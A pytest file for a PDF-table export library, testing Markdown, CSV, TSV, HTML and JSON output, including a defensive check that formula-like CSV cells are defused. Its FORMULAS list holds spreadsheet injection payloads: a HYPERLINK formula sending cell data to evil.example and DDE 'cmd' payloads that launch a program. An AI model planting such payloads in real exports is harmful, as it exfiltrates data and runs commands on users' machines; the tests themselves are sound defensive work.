"""A table written out: Markdown with its pipes and backslashes escaped and merged headings folded,
CSV and tab-separated text that a csv reader (and so a spreadsheet) reads back cell for cell, with
cells that look like formulas defused while amounts stay numbers, HTML with its spans, and JSON."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pymupdf
import pytest

from pdfdesk.core.tables.finder import page_tables
from pdfdesk.core.tables.formats import (
    RENDERERS,
    defused,
    table_record,
    to_csv,
    to_html,
    to_json,
    to_markdown,
    to_tsv,
)
from pdfdesk.core.tables.model import Table, TableCell, TablePart
from tests.core.table_pdfs import Grid, one_table_pdf


def table_of(rows: list[list[str]], header_rows: int = 1, spans: dict[tuple[int, int], tuple[int, int]] | None = None,
             covered: set[tuple[int, int]] | None = None) -> Table:
    """A table from its texts; `covered` slots hold no cell (a merged cell covers them)."""
    spans, covered = spans or {}, covered or set()
    cells = [TableCell(r, c, text, *spans.get((r, c), (1, 1)), bbox=(10.0 * c, 10.0 * r, 10.0 * c + 10, 10.0 * r + 10))
             for r, row in enumerate(rows) for c, text in enumerate(row) if (r, c) not in covered]
    return Table(len(rows), len(rows[0]), cells, [TablePart(3, (10, 20, 300, 200), 0, len(rows))],
                 header_rows=header_rows)


MERGED = table_of([["Code", "Service", "Rates", ""], ["", "", "Status 1", "Status 4"],
                   ["3011", "Xray 5", "12.10", "48.30"]],
                  header_rows=2, spans={(0, 0): (2, 1), (0, 1): (2, 1), (0, 2): (1, 2)},
                  covered={(0, 3), (1, 0), (1, 1)})


def read_back(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# -- Markdown ------------------------------------------------------------------------------------
def test_markdown_escapes_pipes_and_backslashes_and_keeps_each_row_on_one_line() -> None:
    table = table_of([["Path", "Rule"], ["C:\\temp\\new", "a | b"], ["two\nlines", "x\\|y"]])
    assert to_markdown(table) == (
        "| Path | Rule |\n"
        "| --- | --- |\n"
        "| C:\\\\temp\\\\new | a \\| b |\n"
        "| two lines | x\\\\\\|y |"
    )


def test_markdown_folds_merged_headings_over_the_columns_they_span() -> None:
    assert MERGED.column_headings() == ["Code", "Service", "Rates Status 1", "Rates Status 4"]
    assert to_markdown(MERGED) == (
        "| Code | Service | Rates Status 1 | Rates Status 4 |\n"
        "| --- | --- | --- | --- |\n"
        "| 3011 | Xray 5 | 12.10 | 48.30 |"
    )


def test_markdown_of_a_table_without_header_rows_has_an_empty_heading() -> None:
    table = table_of([["Apple", "1.20"], ["Pear", "0.90"]], header_rows=0)
    assert to_markdown(table) == "|  |  |\n| --- | --- |\n| Apple | 1.20 |\n| Pear | 0.90 |"


def test_markdown_of_a_found_table_with_a_merged_heading(tmp_path: Path) -> None:
    grid = Grid([["Code", "Service", "Rates", None], [None, None, "Status 1", "Status 4"],
                 ["3010", "Xray 15", "11.10", "44.40"], ["3011", "Xray 5", "12.10", "48.30"]],
                [50, 120, 80, 80], spans={(0, 0): (2, 1), (0, 1): (2, 1), (0, 2): (1, 2)}, right=frozenset({2, 3}))
    with pymupdf.open(one_table_pdf(tmp_path / "merged.pdf", grid)) as doc:
        (table,) = page_tables(doc[0], 1)
    assert to_markdown(table).splitlines() == [
        "| Code | Service | Rates Status 1 | Rates Status 4 |", "| --- | --- | --- | --- |",
        "| 3010 | Xray 15 | 11.10 | 44.40 |", "| 3011 | Xray 5 | 12.10 | 48.30 |"]
    assert read_back(to_csv(table), ",") == grid.expected()  # a merged cell's text in its first slot


# -- CSV and tab-separated text ------------------------------------------------------------------
AWKWARD = [["Name", "Remark", "Amount"],
           ["Smith, John", 'He said "yes"', "1,250.00"],
           ["Tab\there", "first line\nsecond line", "-12.50"],
           ["Quote\"and,comma", "carriage\r\nreturn", "+3"],
           ["", "trailing space ", "0"]]


@pytest.mark.parametrize(("render", "delimiter"), [(to_csv, ","), (to_tsv, "\t")], ids=["csv", "tsv"])
def test_delimited_text_reads_back_cell_for_cell(render, delimiter: str) -> None:
    text = render(table_of(AWKWARD))
    assert read_back(text, delimiter) == AWKWARD
    assert text.count("\n") > len(AWKWARD)  # the line breaks inside cells are there, quoted


@pytest.mark.parametrize(("render", "delimiter"), [(to_csv, ","), (to_tsv, "\t")], ids=["csv", "tsv"])
@pytest.mark.parametrize("text", ["a\rb", "\r=1+1"], ids=["carriage-return", "formula-after-carriage-return"])
def test_a_lone_carriage_return_is_quoted(render, delimiter: str, text: str) -> None:
    assert read_back(render(table_of([[text, "x"]], header_rows=0)), delimiter) == [[defused(text), "x"]]


def test_csv_quotes_only_where_it_must() -> None:
    table = table_of([["a", "b,c"], ['say "hi"', "plain"]], header_rows=0)
    assert to_csv(table) == 'a,"b,c"\r\n"say ""hi""",plain\r\n'
    assert to_tsv(table) == 'a\tb,c\r\n"say ""hi"""\tplain\r\n'


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "-", "+", "-x"]
NUMBERS = ["-12.50", "+3", "-1,250.00", "+0.5", "-.25", "12", "- 4", "+ 1 000"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_cells_are_defused(text: str) -> None:
    if text in ("-", "+"):  # a lone sign is no formula
        assert defused(text) == text
        return
    assert defused(text) == "'" + text
    for render, delimiter in ((to_csv, ","), (to_tsv, "\t")):
        (row,) = read_back(render(table_of([[text, "x"]], header_rows=0)), delimiter)
        assert row == ["'" + text, "x"]


@pytest.mark.parametrize("text", NUMBERS)
def test_signed_amounts_stay_numbers(text: str) -> None:
    assert defused(text) == text
    (row,) = read_back(to_csv(table_of([[text, "x"]], header_rows=0)), ",")
    assert row == [text, "x"]


def test_markdown_and_json_keep_the_cell_as_written() -> None:
    text = '=HYPERLINK("http://evil.example")'
    table = table_of([["Link", "Note"], [text, "ok"]])
    assert f"| {text} | ok |" in to_markdown(table)
    assert json.loads(to_json(table))["cells"][2]["text"] == text


# -- HTML ----------------------------------------------------------------------------------------
def test_html_keeps_spans_and_escapes_text() -> None:
    table = table_of([["Code", "Rates", ""], ["3011", "<b>12.10</b>", "A & B"]],
                     spans={(0, 1): (1, 2)}, covered={(0, 2)})
    assert to_html(table) == (
        '<table><tr><th>Code</th><th colspan="2">Rates</th></tr>'
        "<tr><td>3011</td><td>&lt;b&gt;12.10&lt;/b&gt;</td><td>A &amp; B</td></tr></table>"
    )
    assert to_html(MERGED) == (
        '<table><tr><th rowspan="2">Code</th><th rowspan="2">Service</th><th colspan="2">Rates</th></tr>'
        "<tr><th>Status 1</th><th>Status 4</th></tr>"
        "<tr><td>3011</td><td>Xray 5</td><td>12.10</td><td>48.30</td></tr></table>"
    )


# -- JSON and the record -------------------------------------------------------------------------
def test_the_record_holds_structure_spans_and_boxes() -> None:
    record = table_record(MERGED)
    assert {k: record[k] for k in ("page", "pages", "bbox", "rows", "cols", "header_rows", "kind", "source",
                                   "continued")} == {
        "page": 3, "pages": [3], "bbox": [10, 20, 300, 200], "rows": 3, "cols": 4, "header_rows": 2,
        "kind": "ruled", "source": "text", "continued": False}
    assert record["cells"][:3] == [
        {"row": 0, "col": 0, "text": "Code", "rowspan": 2, "bbox": [0, 0, 10, 10]},
        {"row": 0, "col": 1, "text": "Service", "rowspan": 2, "bbox": [10, 0, 20, 10]},
        {"row": 0, "col": 2, "text": "Rates", "colspan": 2, "bbox": [20, 0, 30, 10]}]
    assert len(record["cells"]) == 4 * 3 - 3 and "parts" not in record and "notes" not in record
    assert json.loads(to_json(MERGED)) == table_record(MERGED, cell_boxes=False)
    assert all("bbox" not in cell for cell in json.loads(to_json(MERGED))["cells"])


def test_a_joined_table_records_its_parts_and_notes() -> None:
    table = table_of([["A", "B"], ["1", "2"], ["3", "4"]])
    table.parts = [TablePart(4, (1, 2, 3, 4), 0, 2), TablePart(5, (5, 6, 7, 8), 2, 1)]
    table.notes = ["continued over pages 4–5"]
    record = table_record(table)
    assert record["pages"] == [4, 5] and record["continued"] is True and record["page"] == 4
    assert record["parts"] == [{"page": 4, "bbox": [1, 2, 3, 4], "first_row": 0, "rows": 2},
                               {"page": 5, "bbox": [5, 6, 7, 8], "first_row": 2, "rows": 1}]
    assert record["notes"] == ["continued over pages 4–5"]


def test_every_renderer_is_registered() -> None:
    table = table_of([["A", "B"], ["1", "2"]])
    assert {name: render(table) for name, render in RENDERERS.items()} == {
        "markdown": to_markdown(table), "csv": to_csv(table), "tsv": to_tsv(table), "html": to_html(table),
        "json": to_json(table)}
